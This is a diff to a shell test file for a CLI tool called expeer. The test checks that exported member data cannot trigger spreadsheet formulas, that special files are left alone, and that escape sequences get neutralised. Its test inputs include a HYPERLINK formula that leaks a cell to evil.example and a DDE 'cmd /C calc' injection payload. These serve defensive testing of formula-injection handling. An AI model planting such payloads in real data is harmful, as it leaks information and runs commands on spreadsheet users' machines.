@@ -1,7 +1,7 @@
 Output that must not bite: cells a spreadsheet would run, files that are not files, escape
 sequences in messages, and a report set on a full disk.
 
-  $ export EXPEER_DB=$PWD/expeer.db
+  $ . use-database expeer.db
   $ expeer -q db init
   $ expeer -q members add amina@example.org --name '=HYPERLINK("https://evil.example/?"&A2,"Click")' \
   >   --country TN --organisation '-2+3+cmd|'"'"' /C calc'"'"'!A0' --occupation other
@@ -49,16 +49,13 @@ link (which is not followed either, nor is the directory when it is one).
   [73]
   $ test -p fifo && test -L link.csv && test -c /dev/null && cat real.csv
   kept
-  $ ls -A
-  expeer.db
-  expeer.db-shm
-  expeer.db-wal
+  $ ls -A | grep -v '^expeer\.db'
   fifo
   here
   link.csv
   real.csv
-  $ expeer -q members export members.csv && expeer -q members export members.csv --force && ls -A | wc -l
-  8
+  $ expeer -q members export members.csv && expeer -q members export members.csv --force && ls -A | grep -vc '^expeer\.db'
+  5
 
 Escape sequences in what a person typed or a file holds are shown escaped in errors and
 warnings, whatever path the value took to the message (line breaks of the message are kept).
